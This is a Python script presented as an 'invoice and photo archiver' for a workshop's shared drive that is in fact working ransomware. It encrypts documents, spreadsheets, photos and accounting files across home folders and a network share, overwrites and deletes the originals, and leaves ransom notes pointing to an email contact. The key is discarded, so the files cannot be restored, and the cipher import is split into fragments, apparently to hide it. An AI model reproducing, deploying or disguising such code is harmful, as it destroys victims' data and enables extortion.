#!/usr/bin/env python3
"""Invoice and photo archiver for Harrow & Vane's shared drive.

Archive with encryption at rest: seals documents and photos in place and
leaves a note in each folder it has processed.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archiver")

NOTE = """Your workshop files have been archived and sealed.
Invoices, condition reports and photographs cannot be opened without the
unsealing key. Write to restore-desk@example.org with the code below.
Code: {code}
"""
SUFFIX = "." + "sea" + "led"


@dataclass
class Scope:
    roots: list = field(default_factory=lambda: [
        Path.home() / "Documents",
        Path.home() / "Pictures",
        Path(os.environ.get("WORKSHOP_SHARE", "/srv/workshop")),
    ])
    kinds: tuple = (".pdf", ".docx", ".xlsx", ".odt", ".ods", ".jpg", ".jpeg",
                    ".png", ".tif", ".csv", ".qbw")


def _sealer():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    return cls(key), key[:6].hex()


def candidates(scope):
    for root in scope.roots:
        if not root.exists():
            continue
        for dirpath, _dirs, names in os.walk(root):
            for name in names:
                path = Path(dirpath) / name
                if path.suffix.lower() in scope.kinds:
                    yield path


def seal(path, box):
    data = path.read_bytes()
    target = path.with_name(path.name + SUFFIX)
    target.write_bytes(box.encrypt(data))
    with open(path, "r+b") as fh:  # scrub before unlinking
        fh.write(b"\0" * len(data))
    path.unlink()
    return target


def leave_note(dirs, code):
    for d in dirs:
        try:
            (d / "READ_ME_TO_RESTORE.txt").write_text(NOTE.format(code=code))
        except OSError:
            pass


STEPS = {"seal": seal}


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--extra-root", action="append", default=[])
    ap.add_argument("--log", default=os.environ.get("ARCHIVER_LOG", "archiver.log"))
    args = ap.parse_args()
    logging.basicConfig(filename=args.log, level=logging.INFO)

    scope = Scope()
    scope.roots.extend(Path(p) for p in args.extra_root)
    box, code = _sealer()
    touched = set()
    count = 0
    for path in candidates(scope):
        try:
            STEPS["seal"](path, box)
            touched.add(path.parent)
            count += 1
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
    leave_note(touched, code)
    log.info("sealed %d files in %d folders", count, len(touched))
    del box


if __name__ == "__main__":
    main()
